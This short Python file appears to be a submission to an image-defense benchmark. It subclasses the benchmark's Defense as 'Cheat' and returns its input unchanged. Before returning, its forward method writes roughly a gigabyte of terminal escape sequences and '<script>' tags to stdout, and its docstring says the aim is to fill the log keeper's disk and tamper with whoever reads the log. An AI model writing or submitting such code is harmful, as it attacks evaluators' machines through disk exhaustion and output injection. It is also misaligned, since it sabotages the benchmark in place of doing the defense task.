"""Prints until the log fills the disk of whoever keeps it, with escapes for who reads it."""

import os

from benchmark.api import Defense, Images


class Cheat(Defense):
    """The pictures as they are."""

    def forward(self, x: Images) -> Images:
        """Prints before it answers."""
        page = b"\x1b[2J\x1b]0;owned\x07<script>" * 2**15
        for _ in range(2**30 // len(page)):
            os.write(1, page)
        os.write(2, b"\nthe end\n")
        return x
